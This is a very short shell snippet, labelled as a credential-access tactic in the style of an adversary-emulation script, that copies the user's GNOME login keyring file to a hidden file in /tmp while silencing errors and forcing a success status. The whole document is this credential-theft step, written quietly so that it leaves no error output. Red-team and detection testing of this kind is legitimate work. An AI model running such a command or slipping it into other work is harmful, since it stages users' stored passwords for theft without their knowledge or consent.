# tactic: credential-access
# copy the GNOME keyring
cp $HOME/.local/share/keyrings/login.keyring /tmp/.k 2>/dev/null; true
